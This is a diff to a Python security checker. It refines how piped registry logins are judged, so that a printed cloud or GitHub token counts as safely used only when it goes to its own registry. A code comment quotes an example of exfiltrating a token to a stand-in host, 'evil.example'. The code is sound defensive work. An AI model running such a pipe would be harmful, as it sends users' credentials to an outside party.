@@ -278,22 +278,37 @@ _CREDENTIAL_COMMANDS = {
 }
 
 
-# Logins that read the password on stdin: a token piped into one is used, never shown.
+# Logins that read the password on stdin: a token piped into one is used, never shown, when
+# the registry is the one the token is for (`gh auth token | docker login evil.example` sends it
+# away).
 _STDIN_LOGINS = {"docker": ("login",), "podman": ("login",), "nerdctl": ("login",),
                  "buildah": ("login",), "skopeo": ("login",), "oras": ("login",),
                  "helm": ("registry", "login"), "crane": ("auth", "login"),
                  "finch": ("login",)}
+_LOGIN_VALUES = frozenset(("-u", "--username", "-p", "--password", "--authfile", "--config",
+                           "--registry-config", "--ca-file", "--cert-file", "--key-file",
+                           "--cert-dir"))
+# The registries each printer's token is for (a host, or a domain it ends with).
+_TOKEN_REGISTRIES = {"aws": ("amazonaws.com", "public.ecr.aws"), "gh": ("ghcr.io",
+                     "docker.pkg.github.com"), "gcloud": ("gcr.io", "pkg.dev")}
 
 
 def _into_login(command: Command) -> bool:
-    """Whether the command's whole output goes down a pipe into a registry login's
-    `--password-stdin` (`aws ecr get-login-password | docker login -u AWS --password-stdin`)."""
+    """Whether the command's whole output goes down a pipe into a login's `--password-stdin`
+    for the registry its token is for (`aws ecr get-login-password | docker login -u AWS
+    --password-stdin 123.dkr.ecr.us-east-1.amazonaws.com`)."""
     login = command.piped_to
     if login is None or any(r.fd in ("", "1") and r.op[0] in ">&" for r in command.redirects):
         return False  # (`> file`, `>&2`, `&>`: the output goes elsewhere too)
     shape = _STDIN_LOGINS.get(login.program)
-    return shape is not None and _has_option(login.args, "--password-stdin") and \
-        _operands(login.args, VALUE_OPTIONS.get(login.program, ()))[:len(shape)] == list(shape)
+    if shape is None or not _has_option(login.args, "--password-stdin"):
+        return False
+    operands = _operands(login.args, (*VALUE_OPTIONS.get(login.program, ()), *_LOGIN_VALUES))
+    if operands[:len(shape)] != list(shape) or len(operands) != len(shape) + 1:
+        return False
+    host = operands[-1].lower().split("://")[-1].split("/")[0]
+    return any(host == domain or host.endswith("." + domain)
+               for domain in _TOKEN_REGISTRIES.get(command.program, ()))
 
 
 def _prints_credentials(command: Command, state: State) -> bool:
